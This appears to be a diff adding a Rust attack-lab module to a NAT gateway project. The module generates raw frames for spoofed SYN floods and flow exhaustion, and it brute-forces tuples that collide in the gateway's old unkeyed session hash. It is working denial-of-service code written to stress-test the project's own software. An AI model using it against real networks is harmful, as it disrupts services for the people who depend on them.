@@ -1,0 +1,495 @@
+//! `quicknat-lab flood`: the attack lab's raw-frame generator, and the attacker's model of
+//! main's unkeyed session hash.
+//!
+//! The generator writes whole Ethernet frames on one interface through an AF_PACKET socket
+//! (`io::afpacket::AfPacketTx`: `sendmmsg` batches), so it can forge what a socket cannot:
+//! spoofed sources, and flows that no local socket owns. Three patterns:
+//!
+//! - [`Pattern::SpoofedSyn`]: TCP SYNs to one destination from random sources in a prefix
+//!   and random ports (a spoofed SYN flood at a port forward);
+//! - [`Pattern::Tuples`]: TCP SYNs to one destination from a fixed list of (source, port),
+//!   replayed round robin (crafted hash collisions, or the same number of random tuples);
+//! - [`Pattern::Greedy`]: one source opening new flows as fast as it can, random source
+//!   ports to random destinations and ports in a prefix, UDP and TCP SYN alternating.
+//!
+//! [`old_key_hash`] is a copy of `conntrack::Key::hash` (and `Key::of`'s packing) as it was
+//! on main at ec760bf, before the hash was keyed: the attacker computes collisions offline
+//! against it ([`find_collisions`]). The gateway under test may use another hash by now;
+//! the lab measures whatever binary it is given.
+//!
+//! Lab equipment only: it never runs on the data path, and it sends only into the lab's
+//! own namespaces.
+
+use std::io;
+use std::net::Ipv4Addr;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
+
+use ::io::afpacket::AfPacketTx;
+
+use crate::gen::Pacer;
+
+/// Frames built per pacing step (the socket sends them in `sendmmsg` batches of its own).
+const BATCH: usize = 64;
+
+/// What the frames look like.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Pattern {
+    /// TCP SYNs to `dst` from random addresses in `src_net` and random ports 1024-65535.
+    SpoofedSyn {
+        /// Destination address and port.
+        dst: (Ipv4Addr, u16),
+        /// Sources are drawn from this prefix.
+        src_net: (Ipv4Addr, u8),
+    },
+    /// TCP SYNs to `dst` from these (address, port) sources, round robin.
+    Tuples {
+        /// Destination address and port.
+        dst: (Ipv4Addr, u16),
+        /// The sources, replayed in order.
+        srcs: Vec<(Ipv4Addr, u16)>,
+    },
+    /// New flows from `src`: random source ports 1024-65535 to random addresses in
+    /// `dst_net` and random ports, UDP and TCP SYN alternating.
+    Greedy {
+        /// The one source address.
+        src: Ipv4Addr,
+        /// Destinations are drawn from this prefix.
+        dst_net: (Ipv4Addr, u8),
+    },
+}
+
+/// What a flood run did.
+#[derive(Clone, Copy, Debug, Default, PartialEq, serde::Serialize, serde::Deserialize)]
+pub struct FloodReport {
+    /// Frames the kernel accepted.
+    pub sent: u64,
+    /// Frames refused (full queues).
+    pub dropped: u64,
+    /// Seconds sending.
+    pub seconds: f64,
+    /// `sent / seconds`.
+    pub pps: f64,
+}
+
+/// xorshift64*: fast and good enough for forged header fields.
+#[derive(Clone, Debug)]
+pub struct Rng(u64);
+
+impl Rng {
+    /// A generator from `seed` (0 is replaced).
+    pub fn new(seed: u64) -> Self {
+        Rng(seed.max(1))
+    }
+    /// The next 64 random bits.
+    #[inline]
+    pub fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
+    }
+}
+
+/// A random address in `net` (an address and prefix length).
+fn in_net(net: (Ipv4Addr, u8), r: u64) -> Ipv4Addr {
+    let host_bits = 32 - u32::from(net.1.min(32));
+    let mask = if host_bits == 32 {
+        u32::MAX
+    } else {
+        (1u32 << host_bits) - 1
+    };
+    Ipv4Addr::from((u32::from(net.0) & !mask) | (r as u32 & mask))
+}
+
+/// A random port in 1024..=65535.
+fn port(r: u64) -> u16 {
+    1024 + (r % 64_512) as u16
+}
+
+/// The RFC 1071 sum of `data` folded into `acc` (not complemented).
+fn sum16(mut acc: u32, data: &[u8]) -> u32 {
+    let mut chunks = data.chunks_exact(2);
+    for c in &mut chunks {
+        acc += u32::from(u16::from_be_bytes([c[0], c[1]]));
+    }
+    if let [b] = chunks.remainder() {
+        acc += u32::from(*b) << 8;
+    }
+    acc
+}
+
+fn fold(mut acc: u32) -> u16 {
+    while acc > 0xffff {
+        acc = (acc & 0xffff) + (acc >> 16);
+    }
+    !(acc as u16)
+}
+
+/// Writes an Ethernet + IPv4 + (TCP SYN | UDP) frame into `buf`; returns its length.
+/// `tcp`: a 20-byte SYN with sequence number `seq`; else UDP with an 18-byte payload.
+#[allow(clippy::too_many_arguments)]
+pub fn build_frame(
+    buf: &mut [u8; 64],
+    dst_mac: [u8; 6],
+    src_mac: [u8; 6],
+    src: (Ipv4Addr, u16),
+    dst: (Ipv4Addr, u16),
+    tcp: bool,
+    seq: u32,
+    ip_id: u16,
+) -> usize {
+    let l4_len: usize = if tcp { 20 } else { 8 + 18 };
+    let total = 20 + l4_len;
+    buf.fill(0);
+    buf[0..6].copy_from_slice(&dst_mac);
+    buf[6..12].copy_from_slice(&src_mac);
+    buf[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
+    let ip = 14;
+    buf[ip] = 0x45;
+    buf[ip + 2..ip + 4].copy_from_slice(&(total as u16).to_be_bytes());
+    buf[ip + 4..ip + 6].copy_from_slice(&ip_id.to_be_bytes());
+    buf[ip + 6] = 0x40; // DF
+    buf[ip + 8] = 64;
+    buf[ip + 9] = if tcp { 6 } else { 17 };
+    buf[ip + 12..ip + 16].copy_from_slice(&src.0.octets());
+    buf[ip + 16..ip + 20].copy_from_slice(&dst.0.octets());
+    let c = fold(sum16(0, &buf[ip..ip + 20]));
+    buf[ip + 10..ip + 12].copy_from_slice(&c.to_be_bytes());
+    let l4 = ip + 20;
+    buf[l4..l4 + 2].copy_from_slice(&src.1.to_be_bytes());
+    buf[l4 + 2..l4 + 4].copy_from_slice(&dst.1.to_be_bytes());
+    let csum_at = if tcp {
+        buf[l4 + 4..l4 + 8].copy_from_slice(&seq.to_be_bytes());
+        buf[l4 + 12] = 5 << 4;
+        buf[l4 + 13] = 0x02; // SYN
+        buf[l4 + 14..l4 + 16].copy_from_slice(&64_240u16.to_be_bytes());
+        l4 + 16
+    } else {
+        buf[l4 + 4..l4 + 6].copy_from_slice(&(l4_len as u16).to_be_bytes());
+        for (i, b) in buf[l4 + 8..l4 + l4_len].iter_mut().enumerate() {
+            *b = b"quicknat-attack-lab"[i];
+        }
+        l4 + 6
+    };
+    // Pseudo-header: addresses, protocol, L4 length.
+    let mut acc = sum16(0, &buf[ip + 12..ip + 20]);
+    acc += u32::from(buf[ip + 9]) + l4_len as u32;
+    let c = fold(sum16(acc, &buf[l4..l4 + l4_len]));
+    let c = if !tcp && c == 0 { 0xffff } else { c };
+    buf[csum_at..csum_at + 2].copy_from_slice(&c.to_be_bytes());
+    14 + total
+}
+
+/// Everything one run needs.
+#[derive(Clone, Debug)]
+pub struct FloodConfig {
+    /// Interface to send on (in the caller's namespace).
+    pub dev: String,
+    /// Destination MAC (the gateway's interface).
+    pub dst_mac: [u8; 6],
+    /// Source MAC (ours).
+    pub src_mac: [u8; 6],
+    /// The frames.
+    pub pattern: Pattern,
+    /// Frames per second (`None`: as fast as possible).
+    pub pps: Option<u64>,
+    /// How long.
+    pub duration: Duration,
+    /// Random seed.
+    pub seed: u64,
+}
+
+/// Sends per `cfg` until its duration passes or `stop` is set.
+pub fn run(cfg: &FloodConfig, stop: &AtomicBool) -> io::Result<FloodReport> {
+    if let Pattern::Tuples { srcs, .. } = &cfg.pattern {
+        if srcs.is_empty() {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                "flood: no tuples to replay",
+            ));
+        }
+    }
+    let mut tx = AfPacketTx::open(&cfg.dev)?;
+    let mut rng = Rng::new(cfg.seed);
+    let mut frame = [0u8; 64];
+    let mut next_tuple = 0usize;
+    let mut n = 0u64;
+    let start = Instant::now();
+    let deadline = start + cfg.duration;
+    let mut pacer = cfg.pps.map(|r| Pacer::new(r, BATCH, start));
+    while !stop.load(Ordering::Relaxed) {
+        let now = Instant::now();
+        if now >= deadline {
+            break;
+        }
+        let k = match pacer.as_mut() {
+            None => BATCH,
+            Some(p) => match p.grant(now, BATCH) {
+                0 => {
+                    let w = p.wait_time().min(deadline.saturating_duration_since(now));
+                    if w > Duration::from_micros(200) {
+                        std::thread::sleep(w);
+                    } else {
+                        std::thread::yield_now();
+                    }
+                    continue;
+                }
+                k => k,
+            },
+        };
+        for _ in 0..k {
+            let r = rng.next();
+            let r2 = rng.next();
+            let (src, dst, tcp) = match &cfg.pattern {
+                Pattern::SpoofedSyn { dst, src_net } => {
+                    ((in_net(*src_net, r), port(r >> 32)), *dst, true)
+                }
+                Pattern::Tuples { dst, srcs } => {
+                    let s = srcs[next_tuple];
+                    next_tuple = (next_tuple + 1) % srcs.len();
+                    (s, *dst, true)
+                }
+                Pattern::Greedy { src, dst_net } => (
+                    (*src, port(r)),
+                    (in_net(*dst_net, r >> 16), port(r2)),
+                    n.is_multiple_of(2),
+                ),
+            };
+            let len = build_frame(
+                &mut frame,
+                cfg.dst_mac,
+                cfg.src_mac,
+                src,
+                dst,
+                tcp,
+                (r2 >> 32) as u32,
+                r2 as u16,
+            );
+            tx.send(&frame[..len])?;
+            n += 1;
+        }
+        if let Some(p) = pacer.as_mut() {
+            p.consume(k);
+        }
+    }
+    tx.flush()?;
+    let seconds = start.elapsed().as_secs_f64();
+    Ok(FloodReport {
+        sent: tx.sent(),
+        dropped: tx.dropped(),
+        seconds,
+        pps: if seconds > 0.0 {
+            tx.sent() as f64 / seconds
+        } else {
+            0.0
+        },
+    })
+}
+
+/// `conntrack::key::Key::of` on main at ec760bf: a TCP tuple packed into two words
+/// (`w0 = src << 32 | dst`, `w1 = sport << 48 | dport << 32 | proto`, TCP = 0).
+pub fn old_key(src: (Ipv4Addr, u16), dst: (Ipv4Addr, u16)) -> (u64, u64) {
+    let w0 = (u64::from(u32::from(src.0)) << 32) | u64::from(u32::from(dst.0));
+    let w1 = (u64::from(src.1) << 48) | (u64::from(dst.1) << 32);
+    (w0, w1)
+}
+
+/// `conntrack::key::Key::hash` on main at ec760bf, unkeyed: the attacker's model.
+#[inline]
+pub fn old_key_hash(k: (u64, u64)) -> u64 {
+    let mut h = k.0.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ k.1.wrapping_mul(0xC2B2_AE3D_27D4_EB4F);
+    h ^= h >> 31;
+    h = h.wrapping_mul(0xFF51_AFD7_ED55_8CCD);
+    h ^ (h >> 29)
+}
+
+/// The bucket mask of main's session index for `max_sessions` (`SessionTable::new` makes
+/// `ChainIndex::new(2 * capacity)`: at least 16 buckets, rounded up to a power of two).
+pub fn old_bucket_mask(max_sessions: usize) -> u64 {
+    (max_sessions.saturating_mul(2).max(16).next_power_of_two() - 1) as u64
+}
+
+/// `count` distinct sources in `src_net` (ports 1024-65535) whose TCP tuples to `dst` all
+/// land in one bucket of main's session index sized for `max_sessions`: a brute-force
+/// search (about `count x buckets` hash evaluations).
+pub fn find_collisions(
+    dst: (Ipv4Addr, u16),
+    src_net: (Ipv4Addr, u8),
+    max_sessions: usize,
+    count: usize,
+) -> Vec<(Ipv4Addr, u16)> {
+    let mask = old_bucket_mask(max_sessions);
+    let host_bits = 32 - u32::from(src_net.1.min(32));
+    let base = u32::from(src_net.0) & !(((1u64 << host_bits) - 1) as u32);
+    let hosts = 1u64 << host_bits;
+    let target = old_key_hash(old_key((Ipv4Addr::from(base), 1024), dst)) & mask;
+    let mut out = Vec::with_capacity(count);
+    'ports: for sport in 1024..=u16::MAX {
+        for h in 0..hosts {
+            let src = Ipv4Addr::from(base.wrapping_add(h as u32));
+            if old_key_hash(old_key((src, sport), dst)) & mask == target {
+                out.push((src, sport));
+                if out.len() == count {
+                    break 'ports;
+                }
+            }
+        }
+    }
+    out
+}
+
+/// `count` random distinct sources in `src_net` (ports 1024-65535).
+pub fn random_tuples(src_net: (Ipv4Addr, u8), count: usize, seed: u64) -> Vec<(Ipv4Addr, u16)> {
+    let mut rng = Rng::new(seed);
+    let mut seen = std::collections::HashSet::new();
+    let mut out = Vec::with_capacity(count);
+    while out.len() < count {
+        let r = rng.next();
+        let t = (in_net(src_net, r), port(r >> 32));
+        if seen.insert(t) {
+            out.push(t);
+        }
+    }
+    out
+}
+
+/// Parses "A.B.C.D/LEN".
+pub fn parse_net(s: &str) -> anyhow::Result<(Ipv4Addr, u8)> {
+    let (a, l) = s
+        .split_once('/')
+        .ok_or_else(|| anyhow::anyhow!("{s:?}: expected ADDRESS/LENGTH"))?;
+    let len: u8 = l
+        .parse()
+        .ok()
+        .filter(|l| *l <= 32)
+        .ok_or_else(|| anyhow::anyhow!("{s:?}: prefix length must be 0-32"))?;
+    Ok((
+        a.parse()
+            .map_err(|_| anyhow::anyhow!("{s:?}: not an IPv4 address"))?,
+        len,
+    ))
+}
+
+/// Parses "aa:bb:cc:dd:ee:ff".
+pub fn parse_mac(s: &str) -> anyhow::Result<[u8; 6]> {
+    let mut mac = [0u8; 6];
+    let parts: Vec<&str> = s.trim().split(':').collect();
+    anyhow::ensure!(parts.len() == 6, "{s:?}: not a MAC address");
+    for (m, p) in mac.iter_mut().zip(parts) {
+        *m = u8::from_str_radix(p, 16).map_err(|_| anyhow::anyhow!("{s:?}: not a MAC address"))?;
+    }
+    Ok(mac)
+}
+
+/// Parses "A.B.C.D:PORT".
+pub fn parse_endpoint(s: &str) -> anyhow::Result<(Ipv4Addr, u16)> {
+    let a: std::net::SocketAddrV4 = s
+        .parse()
+        .map_err(|_| anyhow::anyhow!("{s:?}: expected IPv4:PORT"))?;
+    Ok((*a.ip(), a.port()))
+}
+
+/// Reads a tuples file: one "A.B.C.D:PORT" per line.
+pub fn read_tuples(path: &std::path::Path) -> anyhow::Result<Vec<(Ipv4Addr, u16)>> {
+    let text = std::fs::read_to_string(path)
+        .map_err(|e| anyhow::anyhow!("reading {}: {e}", path.display()))?;
+    text.lines()
+        .filter(|l| !l.trim().is_empty())
+        .map(|l| parse_endpoint(l.trim()))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// An independent check of a frame: every checksum sums to 0xffff over its range.
+    fn verify(frame: &[u8]) {
+        let ip = &frame[14..34];
+        assert_eq!(fold(sum16(0, ip)), 0, "IPv4 header checksum");
+        let total = usize::from(u16::from_be_bytes([ip[2], ip[3]]));
+        assert_eq!(frame.len(), 14 + total);
+        let l4 = &frame[34..14 + total];
+        let mut acc = sum16(0, &ip[12..20]);
+        acc += u32::from(ip[9]) + l4.len() as u32;
+        assert_eq!(fold(sum16(acc, l4)), 0, "L4 checksum");
+    }
+
+    #[test]
+    fn frames_carry_valid_checksums_and_the_fields_asked_for() {
+        let mut rng = Rng::new(7);
+        let mut buf = [0u8; 64];
+        for i in 0..1000 {
+            let r = rng.next();
+            let src = (in_net(("10.128.0.0".parse().unwrap(), 9), r), port(r >> 32));
+            let dst = ("203.0.113.1".parse().unwrap(), 8080);
+            let tcp = i % 2 == 0;
+            let n = build_frame(&mut buf, [2; 6], [4; 6], src, dst, tcp, r as u32, i as u16);
+            assert_eq!(n, if tcp { 54 } else { 60 });
+            verify(&buf[..n]);
+            assert_eq!(&buf[26..30], &src.0.octets());
+            assert_eq!(u16::from_be_bytes([buf[34], buf[35]]), src.1);
+            assert_eq!(u16::from_be_bytes([buf[36], buf[37]]), 8080);
+            assert!(src.0.octets()[0] == 10 && src.0.octets()[1] >= 128);
+            if tcp {
+                assert_eq!(buf[47], 0x02, "SYN only");
+            }
+        }
+    }
+
+    #[test]
+    fn collisions_share_one_bucket_and_are_distinct() {
+        let dst = ("203.0.113.1".parse().unwrap(), 8080);
+        let net = ("10.128.0.0".parse().unwrap(), 9);
+        let found = find_collisions(dst, net, 4096, 64);
+        assert_eq!(found.len(), 64);
+        let mask = old_bucket_mask(4096);
+        assert_eq!(mask, 8191);
+        let b = old_key_hash(old_key(found[0], dst)) & mask;
+        for t in &found {
+            assert_eq!(old_key_hash(old_key(*t, dst)) & mask, b);
+        }
+        let set: std::collections::HashSet<_> = found.iter().collect();
+        assert_eq!(set.len(), found.len());
+        // Random tuples spread: far fewer than 64 in any one bucket.
+        let random = random_tuples(net, 64, 3);
+        let mut buckets = std::collections::HashMap::new();
+        for t in &random {
+            *buckets
+                .entry(old_key_hash(old_key(*t, dst)) & mask)
+                .or_insert(0) += 1;
+        }
+        assert!(buckets.values().all(|&c| c < 4), "{buckets:?}");
+    }
+
+    #[test]
+    fn old_hash_is_mains_key_hash() {
+        // A vector computed with conntrack::Key::hash at ec760bf:
+        // Key::of(TCP 10.128.0.1:1024 -> 203.0.113.1:8080).
+        let k = old_key(
+            ("10.128.0.1".parse().unwrap(), 1024),
+            ("203.0.113.1".parse().unwrap(), 8080),
+        );
+        assert_eq!(k, (0x0A80_0001_CB00_7101, 0x0400_1F90_0000_0000));
+        assert_eq!(old_key_hash(k), OLD_HASH_VECTOR);
+    }
+
+    /// See `old_hash_is_mains_key_hash`.
+    const OLD_HASH_VECTOR: u64 = 0x4d82_0b1e_b138_c531;
+
+    #[test]
+    fn parsers() {
+        assert_eq!(
+            parse_net("10.128.0.0/9").unwrap(),
+            ("10.128.0.0".parse().unwrap(), 9)
+        );
+        assert!(parse_net("10.0.0.0/33").is_err());
+        assert_eq!(parse_mac("02:00:00:00:00:0a").unwrap(), [2, 0, 0, 0, 0, 10]);
+        assert!(parse_mac("02:00").is_err());
+        assert_eq!(
+            parse_endpoint("203.0.113.1:8080").unwrap(),
+            ("203.0.113.1".parse().unwrap(), 8080)
+        );
+    }
+}
